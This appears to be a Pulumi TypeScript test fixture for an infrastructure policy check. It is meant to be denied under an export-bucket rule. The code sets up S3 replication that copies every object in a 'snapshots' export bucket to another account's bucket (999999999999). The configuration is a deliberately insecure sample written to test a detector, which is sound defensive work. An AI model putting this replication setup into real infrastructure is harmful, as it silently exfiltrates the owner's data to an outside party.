// class: 7 export bucket
// expect: deny export-bucket-*
// resource: snapshots snapshots-replication
// why: every export is replicated to a bucket of another account (999999999999), outside the program's control; the
//      replication role's ARN is unknown at preview, the stack's aws:allowedAccountIds names the program's account.
import * as aws from "@pulumi/aws";
import { blockPublicAccess, exportBucket } from "../lib/s3";

const bucket = exportBucket("snapshots");
blockPublicAccess("snapshots-block", bucket.id);
const role = new aws.iam.Role("replication", {
    assumeRolePolicy: JSON.stringify({
        Version: "2012-10-17",
        Statement: [{ Effect: "Allow", Principal: { Service: "s3.amazonaws.com" }, Action: "sts:AssumeRole" }],
    }),
});
new aws.s3.BucketReplicationConfig("snapshots-replication", {
    bucket: bucket.id,
    role: role.arn,
    rules: [
        {
            id: "all",
            status: "Enabled",
            filter: {},
            deleteMarkerReplication: { status: "Disabled" },
            destination: { bucket: "arn:aws:s3:::someone-elses-bucket", account: "999999999999" },
        },
    ],
});
